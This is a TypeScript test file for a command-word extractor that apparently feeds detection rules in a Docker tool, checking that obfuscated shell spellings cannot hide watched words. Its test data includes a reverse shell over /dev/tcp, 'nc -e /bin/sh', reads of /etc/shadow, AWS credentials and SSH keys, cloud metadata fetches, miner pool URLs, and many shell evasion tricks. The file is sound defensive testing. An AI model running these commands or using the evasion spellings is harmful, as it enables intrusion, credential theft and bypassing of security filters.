// biome-ignore-all lint/suspicious/noTemplateCurlyInString: they are a shell's.
/** The words of a command: what a shell reads is among them, however it is spelled. */
import { describe, expect, test } from "bun:test";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import {
  COPIES_MAX,
  CUT,
  EXTRA_BYTES,
  TEXT_CHARS_MAX,
  WORD_CHARS_MAX,
  WORDS_MAX,
  wordsOf,
} from "../../../src/docker/words.ts";
import { Random, seedOf } from "../../support/random.ts";

const sh = (script: string): readonly string[] => wordsOf(["sh", "-c", script]) ?? [];

describe("all words of", () => {
  const cases: [command: string[], words: string[]][] = [
    [["ls"], ["ls"]],
    [
      ["/usr/bin/curl", "-o", "X"],
      ["/usr/bin/curl", "curl", "bin/curl", "/usr", "/usr/bin", "-o", "x"],
    ],
    [
      ["sh", "-c", "wget a|sh"],
      ["sh", "-c", "wget", "a"],
    ],
    [
      ["cat", "/etc/shadow"],
      ["cat", "/etc/shadow", "shadow", "etc/shadow", "/etc"],
    ],
    [
      ["env", "X=1", "prog"],
      ["env", "x=1", "x", "1", "prog"],
    ],
    [
      ["nc", "-lvp", "1"],
      ["nc", "-lvp", "-l", "-v", "-p", "1"],
    ],
    [
      ["ls", "/"],
      ["ls", "/"],
    ],
  ];
  test.each(cases)("%p", (command, words) => expect(wordsOf(command)).toEqual(words));
  test.each([[[]], [[""]], [[" ", "'"]]])("%p: none", (command) => expect(wordsOf(command)).toBeUndefined());
});

describe("among the words of a script is what a rule asks for", () => {
  test.each([
    // Separators.
    ["a;curl x", "curl"],
    ["a&&curl", "curl"],
    ["a||(curl)", "curl"],
    ["x=$(curl y)", "curl"],
    ["x=`curl y`", "curl"],
    ["a\ncurl\ty", "curl"],
    ["curl>f", "curl"],
    ["curl<f", "curl"],
    ["{ curl;}", "curl"],
    ["{curl,-o,x}", "curl"],
    ["curl${IFS}x", "curl"],
    ["curl$IFS-x", "curl"],
    ["curl${IFS%??}x", "curl"],
    ["IFS=,;x='curl,y'", "curl"],
    // What a shell takes away.
    ["c\\url x", "curl"],
    ['c""url x', "curl"],
    ["'w'get x", "wget"],
    ["cu\\\nrl", "curl"],
    ["x\\\\\ncurl", "curl"],
    ["cu$@rl", "curl"],
    ["cu${x}rl", "curl"],
    ["cu$()rl", "curl"],
    ["cu``rl", "curl"],
    ["/usr/bin/cu[r]l", "curl"],
    ["$'\\x63url' y", "curl"],
    ["$'\\143\\165rl' y", "curl"],
    ["$'\\u0063url'", "curl"],
    [': "$\'"; x="$(cu\\r$\'\\x6c\' y)"', "curl"],
    ["echo -e 'true\\ncurl x'|sh", "curl"],
    ["printf '\\x63url'|sh", "curl"],
    ["echo \\\\x63url", "x63url"],
    ['$"curl"', "curl"],
    ["${x:-curl} y", "curl"],
    ["CURL", "curl"],
    // Quoted and open texts hide nothing that comes behind them.
    ["echo '${' ; curl x; echo '}'", "curl"],
    ["echo \"costs $'\" ; \\curl '", "curl"],
    ["echo 'it\\'; curl", "curl"],
    ["echo it\\'s; curl", "curl"],
    ["echo '$(' ; curl", "curl"],
    ["sh -c 'sh -c \"curl x\"'", "curl"],
    ["busybox wget x", "wget"],
    ["env X=1 prog", "prog"],
    ["python -c 'os.system(\"curl x\")'", "curl"],
    ['subprocess.run(["curl","x"])', "curl"],
    // Paths, as rules name them.
    ["cat /etc/shadow", "/etc/shadow"],
    ["cat /etc//./x/../shadow", "/etc/shadow"],
    ["cat /../etc/shadow/", "/etc/shadow"],
    ["cat /host/etc/shadow", "etc/shadow"],
    ["cat ../../etc/shadow", "etc/shadow"],
    ["cat </etc/shadow", "/etc/shadow"],
    ["cat ~/.aws/credentials", ".aws/credentials"],
    ["cat $HOME/.ssh/id_rsa", "id_rsa"],
    ["ls //etc/cron.d/x", "/etc/cron.d"],
    ["ls //etc", "/etc"],
    ["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "/dev/tcp"],
    ["bash -ic x", "-i"],
    ["curl --unix-socket /var/run/docker.sock http://x/", "/var/run/docker.sock"],
    ["cat /proc/1/environ", "environ"],
    ["cd /proc/self/fd/7", "/proc/self/fd"],
    ["dd if=/dev/sda of=x", "/dev/sda"],
    ["nc -e/bin/sh h", "-e"],
    ["nc -e/bin/sh h", "/bin/sh"],
    ["nsenter -t1 -m", "-t"],
    ["nsenter --target=1", "--target"],
    // Addresses.
    ["curl http://169.254.169.254/latest/meta-data", "169.254.169.254"],
    ["curl 169.254.169.254:80/latest", "169.254.169.254"],
    ["curl -H x:y http://u:p@169.254.169.254", "169.254.169.254"],
    ["xmrig -o stratum+tcp://pool.x:3333", "stratum+tcp"],
    ["xmrig -o stratum+tcp://pool.x:3333", "pool.x"],
    ["xmrig --url=stratum+ssl://pool.x", "stratum+ssl"],
    ["docker -H tcp://127.0.0.1:2375 ps", "2375"],
    ["chmod +x f", "+x"],
  ])("%p: %p", (script, word) => expect(sh(script)).toContain(word));

  test.each([
    ["echo curly", "curl"],
    ["cat /etc/shadow-", "/etc/shadow"],
    ["kurl", "curl"],
    // The Kelvin sign is no k.
    ["\u212aill", "kill"],
  ])("%p: not %p", (script, word) => expect(sh(script)).not.toContain(word));
});

test("the table of docs/fields.md is true", () => {
  const fields = readFileSync(join(import.meta.dir, "../../../docs/fields.md"), "utf8");
  const table = fields.slice(fields.indexOf("| typed |")).split("\n\n", 1)[0] ?? "";
  const rows = table.split("\n").slice(2);
  expect(rows.length).toBeGreaterThan(4);
  for (const row of rows) {
    // A program whose words these are; it may hold a `c""url`, but no two backticks in a row.
    const [typed, words] = row
      .split(/(?<!\\)\|/)
      .slice(1, 3)
      .map((cell) => [...cell.matchAll(/`([^`]+)`/g)].map(([, code]) => code));
    for (const script of typed ?? [])
      expect(sh(script?.replaceAll("\\|", "|") ?? "")).toEqual(expect.arrayContaining(words ?? []));
  }
});

/** What stands for a character or nothing between two in a spelling of a word, in which shells. */
const PORTABLE: readonly ((char: string) => string)[] = [
  (c) => c,
  (c) => `\\${c}`,
  (c) => `'${c}'`,
  (c) => `"${c}"`,
  (c) => `''${c}`,
  (c) => `${c}""`,
  (c) => `\\\n${c}`,
  (c) => `"\\\n${c}"`,
  (c) => `$@${c}`,
  (c) => `"$@"${c}`,
  (c) => `\${nothing}${c}`,
  (c) => `$nothing''${c}`,
  (c) => `$()${c}`,
  (c) => `\`\`${c}`,
];
const BASH: typeof PORTABLE = [
  (c) => `$'${c}'`,
  (c) => `$"${c}"`,
  (c) => `$'\\x${c.charCodeAt(0).toString(16)}'`,
  (c) => `$'\\${c.charCodeAt(0).toString(8).padStart(3, "0")}'`,
  (c) => `$'\\u00${c.charCodeAt(0).toString(16)}'`,
];

const PLACES = [
  (word: string) => word,
  (word: string) => `true;${word}`,
  (word: string) => `a&&${word} x`,
  (word: string) => `a|${word}>x`,
  (word: string) => `X=1 env ${word}`,
  (word: string) => `(${word})`,
  (word: string) => `y=$(${word} z)`,
  (word: string) => `"y \`${word}\`"`,
  (word: string) => `x'\n'\n${word}`,
  (word: string) => `echo "costs $'";${word}`,
];

const TARGETS = ["curl", "wget", "/etc/shadow", "xmrig", "-e", "169.254.169.254", "sh"];

describe("no spelling hides a word", () => {
  test.each([
    ["sh", PORTABLE],
    ["bash", [...PORTABLE, ...BASH]],
  ] as const)("from %s, which reads it so itself", (shell, spellings) => {
    if (Bun.which(shell) === null) return console.log(`skipped: no ${shell} here`);
    const random = new Random(seedOf(`spellings of ${shell}`));
    const pick = <T>(list: readonly T[]): T => list[random.below(list.length)] as T;
    const spelled = Array.from({ length: 2000 }, () => {
      const word = pick(TARGETS);
      // Escaped and quoted digits, slashes and dashes are the same characters too.
      return { word, spelling: [...word].map((char) => pick(spellings)(char)).join("") };
    });
    const script = spelled.map(({ spelling }) => `printf '%s\\n' ${spelling}`).join("\n");
    const { stdout } = Bun.spawnSync([shell], { stdin: Buffer.from(script), stderr: "ignore" });
    const read = stdout.toString().split("\n");
    let same = 0;
    for (const [i, { word, spelling }] of spelled.entries()) {
      if (read[i] !== word) continue;
      same++;
      const script = pick(PLACES)(spelling);
      if (!sh(script).includes(word)) throw new Error(`${JSON.stringify(script)} hides ${word}`);
    }
    // A spelling that the shell reads as something else proves nothing; nearly all have to be what they are meant to.
    expect(same).toBeGreaterThan(1900);
  });
});

describe("what bounds them", () => {
  test("256 words, the last of which says that there are more", () => {
    const many = (count: number) => wordsOf([Array.from({ length: count }, (_, i) => `w${i}`).join(" ")]) ?? [];
    expect(many(WORDS_MAX - 1)).toHaveLength(WORDS_MAX - 1);
    expect(many(WORDS_MAX - 1)).not.toContain(CUT);
    expect(many(WORDS_MAX)).toHaveLength(WORDS_MAX);
    expect(many(WORDS_MAX).at(-1)).toBe(CUT);
    expect(many(10_000)).toHaveLength(WORDS_MAX);
  });

  test("a longer word is left out, its parts are not", () => {
    const long = "x".repeat(WORD_CHARS_MAX + 1);
    expect(wordsOf([long])).toBeUndefined();
    expect(wordsOf([`/${long}/curl`])).toEqual(["curl"]);
    expect(wordsOf([`${"/a/..".repeat(1000)}/etc/shadow`])).toContain("/etc/shadow");
    expect(wordsOf([`cu${'""'.repeat(1000)}rl`])).toContain("curl");
  });

  test("32 Ki characters, and what was shortened before", () => {
    expect(wordsOf(["a", " ".repeat(TEXT_CHARS_MAX), "curl"])).toEqual(["a", CUT]);
    expect(wordsOf([" ".repeat(TEXT_CHARS_MAX - 5), "curl"])).not.toContain(CUT);
    expect(wordsOf([`${"a ".repeat(2048)}…`])).toContain(CUT);
    expect(wordsOf(["echo", "Loading…"])).toEqual(["echo", "loading…"]);
  });

  test.each([
    ...[
      "$'",
      "$'\\",
      "${",
      "$(",
      "`",
      "\\",
      "'",
      "/",
      "/a",
      "../",
      "a/",
      "=",
      ":/",
      "//",
      "-a/",
      "{",
      "$x",
      "${x:-",
      "\0",
    ],
    ...["\\x41", '"\\x41\\"', "$'\\x41", "'\\x41"],
    ..."a b,c/d".split(""),
  ])("their bytes are counted from the text's: %p again and again", (piece) => {
    for (const length of [1, 100, TEXT_CHARS_MAX]) {
      const text = piece.repeat(Math.ceil(length / piece.length)).slice(0, length);
      const words = wordsOf([text]) ?? [];
      expect(Buffer.byteLength(words.join(""))).toBeLessThanOrEqual(COPIES_MAX * length + EXTRA_BYTES + 3);
    }
  });

  test("random texts are read to their end and give no more than the bound", () => {
    const random = new Random(seedOf("words of random texts"));
    const alphabet = [..."ab/.$'\"\\`(){}[]=:@-,; \n\0xIFS…é"];
    for (let round = 0; round < 2000; round++) {
      const text = Array.from({ length: random.below(200) }, () => alphabet[random.below(alphabet.length)]).join("");
      const words = wordsOf([text]) ?? [];
      expect(Buffer.byteLength(words.join(""))).toBeLessThanOrEqual(
        COPIES_MAX * Buffer.byteLength(text) + EXTRA_BYTES + 3,
      );
      expect(new Set(words).size).toBe(words.length);
      expect(words).not.toContain("");
    }
  });
});
